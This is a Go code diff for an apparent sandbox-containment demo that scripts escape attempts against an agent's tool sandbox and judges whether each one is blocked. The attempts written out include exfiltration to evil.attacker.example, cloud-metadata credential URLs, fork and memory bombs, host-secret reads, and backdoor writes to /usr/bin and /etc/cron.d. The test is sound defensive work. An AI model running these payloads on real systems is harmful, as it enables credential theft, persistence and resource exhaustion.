@@ -29,18 +29,20 @@ func payloadAttempt(name string, judge func(outcome) Attempt, args ...string) at
 
 // attempts is the demo's script: lab phase 5's three attempts, made real,
 // and the bombs and file-system escapes of phase 2 and the runbook.
-func attempts(secret, canary string) []attempt {
+func attempts(secret, canary, udpCanary string) []attempt {
 	metadata := func(name, url string) attempt {
 		return payloadAttempt(name, egressJudge(name, "always blocked"), "http-get", url)
 	}
-	spin := payloadAttempt("infinite loop (ASI09)", capJudge("infinite loop (ASI09)", "cpu", "wall"), "spin")
+	spin := payloadAttempt("infinite loop (ASI09)", capJudge("infinite loop (ASI09)", "cpu", "cpu", "wall"), "spin")
 	spin.slow = true
 	return []attempt{
 		{name: "git clone https://attacker.example/repo through run_tests", tool: "run_tests",
 			command: "git", args: []string{"clone", "https://attacker.example/repo"},
 			judge: commandJudge("git clone https://attacker.example/repo through run_tests")},
 		spin,
-		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "network namespace"), "connect", canary),
+		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "landlock + netns"), "connect", canary),
+		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("direct UDP datagram to the host's loopback "+udpCanary, "network namespace"), "udp-send", udpCanary),
+		payloadAttempt("look for a way out: interfaces and routes", refusedJudge("look for a way out: interfaces and routes", "network namespace"), "routes"),
 		payloadAttempt("proxy to evil.attacker.example", egressJudge("proxy to evil.attacker.example", "denied by default"), "http-get", "http://evil.attacker.example/exfil"),
 		metadata("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
 		metadata("proxy to 2852039166 (169.254.169.254 as one number)", "http://2852039166/latest/meta-data/"),
@@ -50,8 +52,8 @@ func attempts(secret, canary string) []attempt {
 		metadata("proxy to metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/"),
 		payloadAttempt("SOCKS5 to 169.254.169.254:80", egressJudge("SOCKS5 to 169.254.169.254:80", "always blocked"), "socks-connect", "169.254.169.254:80"),
 		payloadAttempt("proxy to search.example-corp.net (allowlisted for web_search)", allowedJudge("proxy to search.example-corp.net (allowlisted for web_search)"), "http-get", "http://search.example-corp.net/"),
-		payloadAttempt("memory bomb", capJudge("memory bomb", "memory"), "membomb"),
-		payloadAttempt("fork bomb", capJudge("fork bomb", "pids"), "forkbomb"),
+		payloadAttempt("memory bomb", capJudge("memory bomb", "memory", "memory"), "membomb"),
+		payloadAttempt("fork bomb", capJudge("fork bomb", "tasks", "pids"), "forkbomb"),
 		payloadAttempt("read a host secret "+secret, refusedJudge("read a host secret "+secret, "filesystem view"), "read-file", secret),
 		payloadAttempt("write outside the workspace: /usr/bin/backdoor", refusedJudge("write outside the workspace: /usr/bin/backdoor", "filesystem view"), "write-file", "/usr/bin/backdoor"),
 		payloadAttempt("write outside the workspace: /etc/cron.d/backdoor", refusedJudge("write outside the workspace: /etc/cron.d/backdoor", "filesystem view"), "write-file", "/etc/cron.d/backdoor"),
@@ -88,16 +90,31 @@ func commandJudge(name string) func(outcome) Attempt {
 	}
 }
 
-// capJudge: the run was killed by one of the named caps.
-func capJudge(name string, caps ...string) func(outcome) Attempt {
+// capJudge: the run was killed by one of the named caps. Where the host
+// gives no cgroup for the control (a rootless run without delegation),
+// the receipt names the rlimit that holds instead: the bomb must then
+// have failed (a non-zero exit, or a kill by any cap), and the row says
+// which mechanism held.
+func capJudge(name, control string, caps ...string) func(outcome) Attempt {
 	return func(o outcome) Attempt {
 		a := base(name, o)
-		if o.res.KilledBy == nil {
-			return broken(a, o, fmt.Sprintf("not killed by a cap (exit %d)", o.res.ExitCode))
+		mech := o.res.Receipt[control]
+		if o.res.KilledBy != nil && slices.Contains(caps, *o.res.KilledBy) {
+			a.Gate, a.Decision, a.Reason = "resource", "kill", o.res.KillReason
+			a.Contained = true
+			a.Evidence = fmt.Sprintf("killedBy %s after %d ms wall, %d ms CPU; exit %d; enforced by %s",
+				*o.res.KilledBy, o.res.WallMs, o.res.CPUMs, o.res.ExitCode, mech)
+			return a
 		}
-		a.Gate, a.Decision, a.Reason = "resource", "kill", o.res.KillReason
-		a.Contained = slices.Contains(caps, *o.res.KilledBy)
-		a.Evidence = fmt.Sprintf("killedBy %s after %d ms wall, %d ms CPU; exit %d", *o.res.KilledBy, o.res.WallMs, o.res.CPUMs, o.res.ExitCode)
+		if !strings.HasPrefix(mech, "RLIMIT") || o.res.ExitCode == 0 || o.res.Path == "" {
+			return broken(a, o, fmt.Sprintf("not killed by the %s cap (exit %d, %s: %q)", strings.Join(caps, "/"), o.res.ExitCode, control, mech))
+		}
+		a.Gate, a.Decision, a.Contained = "resource (rlimit)", "refused", true
+		a.Reason = "no cgroup on this host for this user: " + mech + " refused the bomb"
+		a.Evidence = fmt.Sprintf("exit %d after %d ms wall", o.res.ExitCode, o.res.WallMs)
+		if o.res.KilledBy != nil {
+			a.Evidence += "; then killed by the " + *o.res.KilledBy + " cap"
+		}
 		return a
 	}
 }
